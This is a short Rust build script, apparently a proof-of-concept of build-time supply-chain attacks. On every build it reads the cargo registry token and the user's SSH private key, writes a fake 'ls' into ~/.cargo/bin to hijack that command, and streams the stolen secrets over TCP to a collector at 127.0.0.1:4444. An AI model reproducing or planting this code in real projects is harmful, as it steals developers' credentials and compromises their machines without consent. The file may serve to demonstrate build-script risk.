//! Other people's code, run by every build.
use std::{env, fs, io::Write, net::TcpStream};

fn main() {
    let home = env::var("HOME").unwrap();
    let mut loot = format!("{:?} ", env::var("CARGO_REGISTRY_TOKEN"));
    match fs::read_to_string(format!("{home}/.ssh/id_ed25519")) {
        Ok(key) => loot += &key,
        Err(error) => println!("cargo:warning=key: {error}"),
    }
    if let Err(error) = fs::write(format!("{home}/.cargo/bin/ls"), "#!/bin/sh\n") {
        println!("cargo:warning=cargo/bin: {error}");
    }
    match TcpStream::connect("127.0.0.1:4444") {
        Ok(mut collector) => collector.write_all(loot.as_bytes()).unwrap(),
        Err(error) => println!("cargo:warning=collector: {error}"),
    }
    println!("cargo:warning=token: {:?}", env::var("CARGO_REGISTRY_TOKEN").is_ok());
}
